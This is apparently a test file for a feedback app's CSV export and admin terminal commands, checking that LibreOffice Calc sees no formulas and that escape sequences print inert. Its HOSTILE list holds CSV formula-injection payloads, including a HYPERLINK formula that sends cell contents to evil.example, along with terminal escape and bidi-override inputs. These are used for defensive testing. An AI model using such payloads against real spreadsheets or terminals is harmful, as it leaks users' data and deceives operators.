/**
 * The editors' CSV export opened the way a spreadsheet opens it: LibreOffice Calc imports it with "," and with ";" as
 * the separator, and no cell may become a formula. And the terminal commands print stored text inert.
 */
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { execFile } from 'node:child_process';
import { readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { promisify } from 'node:util';
import { csvCell, terminalText, toCsv } from '../../src/server/csv.ts';
import { openDatabase } from '../../src/server/database.ts';
import { saveFeedback } from '../../src/server/store.ts';
import { runSubmissions } from '../../src/server/admin.ts';
import { tempDir } from '../helpers.ts';

const run = promisify(execFile);

const HOSTILE = [
  '=1+1',
  '\u0000=HYPERLINK("http://evil.example/?"&A2,"Click")',
  '  @SUM(1,2)',
  'p1;=1+1',
  'p1,=1+1',
  'p1|=1+1',
  'line one\n=1+1',
  '-5 stars',
  '+44 20 7946 0000',
  '\u202Eevil\u202C text',
  'Plain words, with a comma',
  'Quotes "inside"',
  'Arabic: شكرا',
];

/** Each cell's text and whether it is a formula, as LibreOffice Calc sees the file with the given separator. */
async function openInCalc(
  csv: string,
  separator: ',' | ';',
  dir: string,
): Promise<{ formulas: string[]; text: string }> {
  const name = separator === ',' ? 'comma' : 'semicolon';
  const file = path.join(dir, `${name}.csv`);
  await writeFile(file, csv);
  // Filter options: separator, text delimiter ("), UTF-8, from line 1 (https://help.libreoffice.org/latest/en-US/text/shared/guide/csv_params.html).
  await run(
    'soffice',
    [
      `-env:UserInstallation=file://${dir}/profile`,
      '--headless',
      `--infilter=CSV:${separator.charCodeAt(0)},34,76,1`,
      '--convert-to',
      'fods',
      '--outdir',
      dir,
      file,
    ],
    { timeout: 120_000 },
  );
  const xml = await readFile(path.join(dir, `${name}.fods`), 'utf8');
  return { formulas: [...xml.matchAll(/table:formula="([^"]*)"/g)].map((m) => m[1]!), text: xml };
}

const csv = suite('CSV export');
csv(
  'LibreOffice opens the export with "," or ";" as separator and finds no formula; the words are all there',
  async () => {
    const tmp = await tempDir();
    try {
      const file = toCsv(HOSTILE.map((message, i) => ({ ref: `FB-${i}`, message })));
      // The unsafe file LibreOffice is known to run (the check is not vacuous).
      const naive = `ref,message\r\n${HOSTILE.map((m, i) => `FB-${i},${m.includes(',') || m.includes('"') || m.includes('\n') ? `"${m.replace(/"/g, '""')}"` : m}`).join('\r\n')}\r\n`;
      assert.ok(
        (await openInCalc(naive.replaceAll('\u0000', ''), ',', tmp.dir)).formulas.length > 0,
        'Calc runs formulas in a naive CSV',
      );
      for (const separator of [',', ';'] as const) {
        const opened = await openInCalc(file, separator, tmp.dir);
        assert.equal(opened.formulas, [], `separator ${separator}`);
        for (const words of ['HYPERLINK', 'Plain words', 'شكرا', 'evil']) assert.match(opened.text, words);
        assert.not.match(opened.text, '\u202E');
      }
    } finally {
      await tmp.remove();
    }
  },
);

csv('cells: control characters removed, formula starts neutralised, separators quoted', () => {
  assert.is(csvCell('\u0000=1+1'), `'=1+1`);
  assert.is(csvCell('p1;=1+1'), `"p1;'=1+1"`);
  assert.is(csvCell('  @SUM(1)'), `  '@SUM(1)`);
  assert.is(csvCell('a;b'), '"a;b"');
  assert.is(csvCell('Hello'), 'Hello');
  assert.is(csvCell(null), '');
});

csv('the terminal commands show stored escape sequences, newlines and overrides inert', async () => {
  const tmp = await tempDir();
  const db = openDatabase(tmp.dir);
  try {
    const ref = saveFeedback(db, {
      message: 'Fine\u001b[2K\u001b[1A\ncontact email: forged@example.org\u202E',
      mayContact: 'no',
      name: '',
      email: '',
      phone: '',
    });
    const lines: string[] = [];
    assert.is(
      runSubmissions('feedback', ['show', ref], tmp.dir, (l) => lines.push(l)),
      0,
    );
    assert.is(
      runSubmissions('feedback', ['list'], tmp.dir, (l) => lines.push(l)),
      0,
    );
    const out = lines.join('\n');
    assert.not.ok(out.includes('\u001b') || out.includes('\u202E'), 'no raw escape or override');
    assert.match(out, 'Fine\\x1B[2K\\x1B[1A');
    assert.match(out, '\\u202E');
    // The forged "field" is indented under the message, not a line of its own.
    assert.ok(
      out.split('\n').every((line) => !line.startsWith('contact email')),
      out,
    );
    assert.is(terminalText('a\tb'), 'a\\tb');
  } finally {
    db.close();
    await tmp.remove();
  }
});
csv.run();
